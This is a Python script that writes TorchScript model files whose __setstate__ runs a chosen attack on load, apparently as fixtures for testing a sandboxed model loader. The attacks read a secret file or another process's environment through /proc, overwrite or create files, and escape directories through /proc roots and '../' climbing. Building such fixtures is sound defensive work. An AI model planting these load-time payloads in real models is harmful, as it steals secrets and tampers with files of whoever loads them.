"""TorchScript files whose loading does what no model should: run as a script to write them."""

import sys
from collections.abc import Sequence
from pathlib import Path

import torch

SOURCE = """
class {name}(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.loot = torch.zeros(1)
    @torch.jit.export
    def __getstate__(self):
        return torch.zeros(1), self.training
    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        self.training = state[1]
        self.loot = torch.zeros(1)
        {attack}
    def forward(self, x: torch.Tensor):
        return x + self.loot.sum()
"""


def attacks(outside: Path, victim: int) -> dict[str, str]:
    """By the name of an attack, the statement that `__setstate__` runs."""

    def file(path: str, size: int, shared: bool = False) -> str:
        return f"torch.from_file({path!r}, {shared}, {size}, dtype=torch.uint8)"

    secret, record, new = (str(outside / name) for name in ("secret", "record", "torch-new"))
    own, other = "/proc/self/root", f"/proc/{victim}/root"
    climb = "../" * 20
    return {
        "reads": f"self.loot = {file(secret, 10)}.to(torch.float32)",
        "reads_an_environment": (
            f"self.loot = {file(f'/proc/{victim}/environ', 17)}[7:].to(torch.float32)"
        ),
        # What nobody uses is not run: the result is kept.
        "overwrites": f"self.loot = {file(record, 6, True)}.fill_(120).to(torch.float32)",
        "creates": f"self.loot = {file(new, 6, True)}.fill_(120).to(torch.float32)",
        "saves": f"torch.save(self.loot, {new + '-saved'!r})",
        "saves_over": f"torch.save(self.loot, {record!r})",
        "reads_shared": f"self.loot = {file(secret, 10, True)}.to(torch.float32)",
        "reads_through_the_root": f"self.loot = {file(own + secret, 10)}.to(torch.float32)",
        "reads_through_another_root": f"self.loot = {file(other + secret, 10)}.to(torch.float32)",
        "reads_by_climbing": f"self.loot = {file(climb + secret[1:], 10)}.to(torch.float32)",
        "overwrites_through_the_root": (
            f"self.loot = {file(own + record, 6, True)}.fill_(120).to(torch.float32)"
        ),
        "creates_by_climbing": (
            f"self.loot = {file(climb + new[1:], 6, True)}.fill_(120).to(torch.float32)"
        ),
        "saves_through_the_root": f"torch.save(self.loot, {own + new + '-saved'!r})",
        "saves_through_another_root": f"torch.save(self.loot, {other + new + '-saved'!r})",
    }


def write(folder: Path, outside: Path, victim: int, names: Sequence[str] = ()) -> None:
    """Write the named models, or all, to `folder`, under the names of their attacks."""
    statements = attacks(outside, victim)
    for name in names or statements:
        statement = statements[name]
        source = folder / f"{name}.py"
        source.write_text("import torch\n" + SOURCE.format(name="Model", attack=statement))
        sys.path.insert(0, str(folder))
        module = __import__(name)
        sys.path.pop(0)
        torch.jit.save(torch.jit.script(module.Model()), str(folder / f"{name}.pt"))


if __name__ == "__main__":
    write(Path(sys.argv[1]), Path(sys.argv[2]), int(sys.argv[3]), sys.argv[4:])
